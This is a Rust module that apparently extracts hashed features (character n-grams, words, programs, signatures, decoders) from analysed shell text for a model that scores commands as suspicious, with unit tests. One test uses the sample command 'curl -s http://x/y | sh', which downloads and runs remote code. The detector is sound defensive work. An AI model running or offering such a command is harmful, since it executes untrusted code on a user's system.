//! Hashed features of an analysed text, for the learned model: character 3–5-grams of the
//! decoded text (lower case, whitespace collapsed), word unigrams and bigrams, the programs
//! run, the signatures and dual-use capabilities found, and the decoders that were needed.
//! Each feature is a bucket of a 2^bits table; the text of each is recovered only when an
//! explanation asks for it.

use crate::Analysed;

/// Bytes of the decoded text that feed the n-grams (a long script's head carries its intent).
pub const MAX_FEATURE_BYTES: usize = 16 * 1024;
/// Which features a model uses (saved with it, so scoring extracts what training did).
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct FeatureSet {
    /// Table size: 2^bits buckets.
    pub bits: u32,
    /// Character n-gram lengths, shortest and longest.
    pub min_n: u8,
    pub max_n: u8,
    /// Word unigrams and bigrams.
    pub words: bool,
    /// Programs run, signatures, dual-use capabilities and decoders.
    pub analysis: bool,
}

impl Default for FeatureSet {
    fn default() -> Self {
        FeatureSet {
            bits: crate::model::DEFAULT_BITS,
            min_n: 3,
            max_n: 5,
            words: true,
            analysis: true,
        }
    }
}

impl FeatureSet {
    pub fn validate(&self) -> Result<(), String> {
        if !(8..=24).contains(&self.bits)
            || self.min_n == 0
            || self.min_n > self.max_n
            || self.max_n > 8
        {
            return Err(format!(
                "feature set: bits 8–24 and 1 ≤ min_n ≤ max_n ≤ 8 (got {self:?})"
            ));
        }
        Ok(())
    }
}

/// Feature kinds, hashed into separate regions of the same table.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Chars,
    Word,
    Bigram,
    Program,
    Signature,
    Decoder,
}

impl Kind {
    fn seed(self) -> u64 {
        match self {
            Kind::Chars => 0x9e37_79b9_7f4a_7c15,
            Kind::Word => 0xc2b2_ae3d_27d4_eb4f,
            Kind::Bigram => 0x1656_67b1_9e37_79f9,
            Kind::Program => 0x27d4_eb2f_1656_67c5,
            Kind::Signature => 0x94d0_49bb_1331_11eb,
            Kind::Decoder => 0xbf58_476d_1ce4_e5b9,
        }
    }

    /// Signatures and decoders only ever add suspicion (their weights are kept ≥ 0).
    pub fn one_sided(self) -> bool {
        matches!(self, Kind::Signature | Kind::Decoder)
    }
}

/// One feature of one text: its bucket and enough to name it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Feature {
    pub index: u32,
    pub kind: Kind,
    pub label: Label,
}

/// Where a feature's text is: a span of the normalised text, or a name.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Label {
    Span(u32, u32),
    Name(String),
}

/// The features of one analysed text, de-duplicated by bucket, and the normalised text their
/// spans point into.
#[derive(Debug, Clone, Default)]
pub struct Features {
    pub items: Vec<Feature>,
    pub normalised: String,
}

impl Features {
    /// A feature's readable text.
    pub fn describe(&self, f: &Feature) -> String {
        let kind = match f.kind {
            Kind::Chars => "chars",
            Kind::Word => "word",
            Kind::Bigram => "words",
            Kind::Program => "program",
            Kind::Signature => "signature",
            Kind::Decoder => "decoded by",
        };
        let text = match &f.label {
            Label::Span(s, e) => self
                .normalised
                .get(*s as usize..*e as usize)
                .unwrap_or("")
                .to_string(),
            Label::Name(n) => n.clone(),
        };
        format!("{kind} `{text}`")
    }
}

/// FNV-1a, seeded per kind: stable across builds and platforms (model files depend on it).
fn hash(seed: u64, bytes: &[u8]) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64 ^ seed;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h ^ (h >> 29)
}

/// Lower case, whitespace runs collapsed to one space, at most [`MAX_FEATURE_BYTES`].
pub fn normalise(text: &str) -> String {
    let mut out = String::with_capacity(text.len().min(MAX_FEATURE_BYTES) + 2);
    out.push(' ');
    let mut space = true;
    for c in text.chars() {
        if out.len() >= MAX_FEATURE_BYTES {
            break;
        }
        if c.is_whitespace() {
            if !space {
                out.push(' ');
                space = true;
            }
        } else {
            out.extend(c.to_lowercase());
            space = false;
        }
    }
    if !space {
        out.push(' ');
    }
    out
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'$' | b':' | b'\\' | b'/')
}

/// The features of an analysis.
pub fn extract(a: &Analysed, set: &FeatureSet) -> Features {
    let normalised = normalise(a.decoded.last());
    let mask = (1u64 << set.bits) - 1;
    let mut items: Vec<Feature> = Vec::with_capacity(normalised.len() * 3 + 32);
    let bytes = normalised.as_bytes();
    let mut push = |kind: Kind, h: u64, label: Label| {
        items.push(Feature {
            index: (h & mask) as u32,
            kind,
            label,
        });
    };
    // FNV-1a is computed prefix by prefix: from each start, the n-grams of every size come
    // from one pass over the longest (the values are those of `hash` on each n-gram).
    let (min_n, max_n) = (usize::from(set.min_n), usize::from(set.max_n));
    for s in 0..bytes.len() {
        let mut h = 0xcbf2_9ce4_8422_2325u64 ^ Kind::Chars.seed();
        for (k, &b) in bytes[s..].iter().take(max_n).enumerate() {
            h ^= u64::from(b);
            h = h.wrapping_mul(0x0000_0100_0000_01b3);
            let n = k + 1;
            if n >= min_n {
                push(
                    Kind::Chars,
                    h ^ (h >> 29),
                    Label::Span(s as u32, (s + n) as u32),
                );
            }
        }
    }
    let mut prev: Option<(usize, usize)> = None;
    let mut i = if set.words { 0 } else { bytes.len() };
    while i < bytes.len() {
        if !is_word_byte(bytes[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && is_word_byte(bytes[i]) {
            i += 1;
        }
        push(
            Kind::Word,
            hash(Kind::Word.seed(), &bytes[start..i]),
            Label::Span(start as u32, i as u32),
        );
        if let Some((ps, _)) = prev {
            push(
                Kind::Bigram,
                hash(Kind::Bigram.seed(), &bytes[ps..i]),
                Label::Span(ps as u32, i as u32),
            );
        }
        prev = Some((start, i));
    }
    let analysis = if set.analysis { 64 } else { 0 };
    for exe in a.tokens.executables().take(analysis) {
        push(
            Kind::Program,
            hash(Kind::Program.seed(), exe.as_bytes()),
            Label::Name(exe.to_string()),
        );
    }
    for h in a.signatures.iter().take(analysis) {
        push(
            Kind::Signature,
            hash(Kind::Signature.seed(), h.id.as_bytes()),
            Label::Name(h.id.to_string()),
        );
    }
    for d in a.dual_use.iter().take(analysis) {
        let name = format!("{}:{:?}", d.program, d.capability);
        push(
            Kind::Signature,
            hash(Kind::Signature.seed(), name.as_bytes()),
            Label::Name(name),
        );
    }
    for l in a.decoded.layers.iter().skip(1).take(analysis) {
        push(
            Kind::Decoder,
            hash(Kind::Decoder.seed(), l.decoder.as_bytes()),
            Label::Name(l.decoder.to_string()),
        );
    }
    // Unstable: of the features sharing a bucket, which one names it in an explanation may
    // differ from insertion order; the values do not.
    items.sort_unstable_by_key(|f| f.index);
    items.dedup_by_key(|f| f.index);
    Features { items, normalised }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn normalising_collapses_space_and_case() {
        assert_eq!(
            normalise("  Get-Process\t\n -Id  4 "),
            " get-process -id 4 "
        );
        assert!(normalise(&"a".repeat(MAX_FEATURE_BYTES * 2)).len() <= MAX_FEATURE_BYTES + 1);
    }

    #[test]
    fn char_ngrams_hash_as_each_ngram_alone() {
        let a = crate::Analyzer::new(None, crate::VerdictConfig::default())
            .examine("curl -s http://x/y | sh", Some(crate::Shell::Sh));
        let set = FeatureSet {
            words: false,
            analysis: false,
            ..FeatureSet::default()
        };
        let f = extract(&a, &set);
        let bytes = f.normalised.as_bytes();
        let mask = (1u64 << set.bits) - 1;
        let mut expected: Vec<u32> = Vec::new();
        for n in usize::from(set.min_n)..=usize::from(set.max_n) {
            for w in bytes.windows(n) {
                expected.push((hash(Kind::Chars.seed(), w) & mask) as u32);
            }
        }
        expected.sort_unstable();
        expected.dedup();
        let got: Vec<u32> = f.items.iter().map(|i| i.index).collect();
        assert_eq!(got, expected);
    }

    #[test]
    fn hashing_is_stable() {
        // Model files depend on these values never changing.
        assert_eq!(hash(0, b"abc"), hash(0, b"abc"));
        assert_ne!(
            hash(Kind::Chars.seed(), b"abc"),
            hash(Kind::Word.seed(), b"abc")
        );
        assert_eq!(
            hash(0, b""),
            0xcbf2_9ce4_8422_2325 ^ (0xcbf2_9ce4_8422_2325 >> 29)
        );
    }
}
